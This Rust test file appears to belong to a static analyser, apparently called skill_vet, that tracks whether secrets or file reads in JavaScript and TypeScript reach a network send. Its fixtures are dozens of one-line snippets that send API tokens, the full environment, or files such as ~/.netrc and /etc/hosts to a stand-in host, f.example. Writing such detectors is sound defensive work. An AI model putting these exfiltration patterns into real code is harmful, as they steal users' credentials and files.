//! Shapes of JavaScript, and of TypeScript, in which a secret does, or does not, get to a send.

#![allow(clippy::expect_used)] // A test says what it expects by panicking.

use skill_vet::facts::Unit;
use skill_vet::language::Language;
use skill_vet::queries::QuerySet;
use skill_vet::queries::vocabulary::FactType;
use skill_vet::semantics::argument_values;
use skill_vet::semantics::eval::Eval;
use skill_vet::semantics::flow::FlowGraph;
use skill_vet::semantics::graph::Op;

/// Whether the file's first secret or file read gets to what its last send is handed.
fn reaches(language: Language, code: &str) -> bool {
    let queries = QuerySet::embedded();
    let unit = Unit::script(language, code, &queries);
    let mut eval = Eval::new(&unit.graph, &unit.sources);
    let flow = FlowGraph::new(&mut eval, &[]);
    let is_source =
        |fact: FactType| matches!(fact, FactType::SecretRead | FactType::ReadOutside | FactType::Encode);
    let sources: Vec<_> =
        unit.facts.iter().filter(|fact| is_source(fact.fact)).map(|fact| fact.value).collect();
    assert!(!sources.is_empty(), "a source");
    let send = unit
        .facts
        .iter()
        .rfind(|fact| fact.fact == FactType::Send)
        .expect("a send")
        .value
        .expect("its value");
    let spread = flow.spread(&sources, &Default::default());
    let mut sinks = vec![send];
    if let Op::Call(call) = unit.graph.op(send) {
        sinks.extend(argument_values(call));
    }
    sinks.into_iter().any(|sink| spread.sources_at(sink).next().is_some())
}

#[test]
fn a_secret_travels() {
    for code in [
        "const t = process.env.API_TOKEN; fetch('https://f.example', { headers: { a: `Bearer ${t}` } });",
        "const { API_TOKEN: t } = process.env; fetch('https://f.example', { t });",
        "const { API_TOKEN } = process.env; fetch('https://f.example?' + API_TOKEN);",
        "const { API_TOKEN = 'x' } = process.env; fetch('https://f.example', [API_TOKEN]);",
        "const u = new URL('https://f.example'); u.searchParams.set('k', process.env.API_TOKEN); fetch(u);",
        "const o = {}; o.headers = {}; o.headers.k = process.env.API_TOKEN; fetch('https://f.example', o);",
        "const o = {}; o['body'] = process.env.API_TOKEN; fetch('https://f.example', o);",
        "const f = new FormData(); f.append('k', process.env.API_TOKEN); fetch('https://f.example', { body: f });",
        "const a = []; a.push(process.env.API_TOKEN); fetch('https://f.example', { body: a.join() });",
        "const o = Object.assign({}, { k: process.env.API_TOKEN }); fetch('https://f.example', o);",
        "const o = {}; Object.assign(o, { k: process.env.API_TOKEN }); fetch('https://f.example', o);",
        "const o = { ...{ k: process.env.API_TOKEN } }; fetch('https://f.example', o);",
        "function g() { return process.env.API_TOKEN; } async function s(d) { await fetch('https://f.example', d); } s(g());",
        "const g = () => process.env.API_TOKEN; const s = ({ d }) => fetch('https://f.example', d); s({ d: g() });",
        "const fs = require('fs'); fs.readFile('/home/me/.netrc', (e, d) => { fetch('https://f.example', { body: d }); });",
        "const fs = require('fs'); new Promise((ok) => fs.readFile('/home/me/.netrc', (e, d) => ok(d))).then((d) => fetch('https://f.example', d));",
        "const fs = require('fs/promises'); fs.readFile('/home/me/.netrc').then((d) => d.trim()).then((d) => fetch('https://f.example', d));",
        "const https = require('https'); const t = process.env.API_TOKEN; const r = https.request({ host: 'f.example' }); r.write(t); r.end();",
        "require('superagent').post('https://f.example').set('a', 'b').send(process.env.API_TOKEN);",
        "require('fs').createReadStream('/home/me/.netrc').pipe(require('https').request('https://f.example'));",
        "const fs = require('fs'); const r = require('https').request('https://f.example'); fs.createReadStream('/home/me/.netrc').pipe(r);",
        "const { pipeline } = require('stream'); const r = require('https').request('https://f.example'); pipeline(require('fs').createReadStream('/etc/hosts'), r, () => {});",
        "class C { constructor() { this.t = process.env.API_TOKEN; } go() { fetch('https://f.example', this.t); } } new C().go();",
        "const o = { t: process.env.API_TOKEN, go() { fetch('https://f.example', this.t); } }; o.go();",
        "for (const [k, v] of Object.entries(process.env)) fetch('https://f.example', { body: k + v });",
        "const found = Object.keys(process.env).filter((k) => /x/.test(k)); fetch('https://f.example', found);",
        "const ws = new WebSocket('wss://f.example'); ws.onopen = () => ws.send(process.env.API_TOKEN);",
        "const xs = ['/home/me/.netrc'].map((p) => require('fs').readFileSync(p)); fetch('https://f.example', xs);",
        "let b = ''; const s = require('fs').createReadStream('/home/me/.netrc'); s.on('data', (d) => { b += d; }); s.on('end', () => fetch('https://f.example', b));",
        "const squash = (s) => require('zlib').gzipSync(s).toString('hex'); fetch('https://f.example', squash('x'));",
        "const send = fetch; send.call(null, 'https://f.example', process.env.API_TOKEN);",
        "const f = (d) => fetch('https://f.example', d); f.apply(null, [process.env.API_TOKEN]);",
        "const xhr = new XMLHttpRequest(); xhr.open('POST', 'https://f.example'); xhr.send(process.env.API_TOKEN);",
        "fetch('https://f.example', { body: JSON.stringify({ ...process.env }) });",
        "exports.t = process.env.API_TOKEN; fetch('https://f.example', exports.t);",
        "t = process.env.API_TOKEN; function s() { fetch('https://f.example', t); } s();",
        "const m = new Map(); m.set('k', process.env.API_TOKEN); for (const v of m.values()) fetch('https://f.example', v);",
        "const t = cond ? process.env.API_TOKEN : 'x'; fetch('https://f.example', t || 'y');",
    ] {
        for language in [Language::JavaScript, Language::TypeScript] {
            assert!(reaches(language, code), "{language:?}: {code}");
        }
    }
}

#[test]
fn another_value_does_not() {
    for code in [
        "const t = process.env.API_TOKEN; console.log(t); fetch('https://f.example', { a: 'x' });",
        "const { API_TOKEN: t, PORT: p } = process.env; use(t); fetch('https://f.example', { p });",
        "let t = process.env.API_TOKEN; t = 'x'; fetch('https://f.example', t);",
        "{ const t = process.env.API_TOKEN; use(t); } { const t = 'x'; fetch('https://f.example', t); }",
        "function a(t) { return t; } a(process.env.API_TOKEN); function b(t) { fetch('https://f.example', t); } b('x');",
        "class C { constructor() { this.t = process.env.API_TOKEN; this.u = 'x'; } go() { fetch('https://f.example', this.u); } }",
    ] {
        for language in [Language::JavaScript, Language::TypeScript] {
            assert!(!reaches(language, code), "{language:?}: {code}");
        }
    }
}

#[test]
fn a_secret_travels_through_types() {
    for code in [
        "const t = process.env.API_TOKEN! as string; fetch('https://f.example', <Body>{ t: t satisfies string });",
        "class C { constructor(private readonly t: string, n?: number) {} go(): void { fetch('https://f.example', this.t); } } new C(process.env.API_TOKEN!).go();",
        "class C<T> { protected t: T = process.env.API_TOKEN as T; go() { fetch('https://f.example', this.t!); } } new C<string>().go();",
        "abstract class A { t?: string; abstract go(): void; } class B extends A { constructor() { super(); this.t = process.env.API_TOKEN; } override go() { fetch('https://f.example', this.t); } }",
        "function s(this: Window, d: string, ...rest: string[]): void { fetch('https://f.example', d); } s(process.env.API_TOKEN!);",
        "function s(d: string): void; function s(d?: string): void { fetch('https://f.example', d as any); } s(process.env.API_TOKEN!);",
        "const s = async <T,>({ d }: { d: T }): Promise<void> => { await fetch('https://f.example', d!); }; s<string>({ d: process.env.API_TOKEN! });",
        "namespace N { export const t: string = process.env.API_TOKEN!; export namespace M { export const u = t; } } fetch('https://f.example', N.M.u);",
        "enum E { A = `${process.env.API_TOKEN}` as any } fetch('https://f.example', E.A);",
        "const o = {} as Options; o!.headers!.k = process.env.API_TOKEN; fetch('https://f.example', o);",
        "let t: string | undefined; (t as any) = process.env.API_TOKEN; fetch('https://f.example', t);",
        "for (const t of [process.env.API_TOKEN] as const) fetch('https://f.example', t satisfies unknown);",
        "function g(x: unknown = process.env.API_TOKEN): asserts x is string { fetch('https://f.example', x); }",
    ] {
        assert!(reaches(Language::TypeScript, code), "{code}");
    }
    for code in [
        "class C { constructor(private t: string, private u: string) {} go() { use(this.t); fetch('https://f.example', this.u); } } new C(process.env.API_TOKEN!, 'x').go();",
        "class C { constructor(t: string) {} go() { fetch('https://f.example', this.t); } } new C(process.env.API_TOKEN!).go();",
        "const t = process.env.API_TOKEN as Secret; let u: typeof t; fetch('https://f.example', { a: 'x' } as { t: typeof t });",
    ] {
        assert!(!reaches(Language::TypeScript, code), "{code}");
    }
}
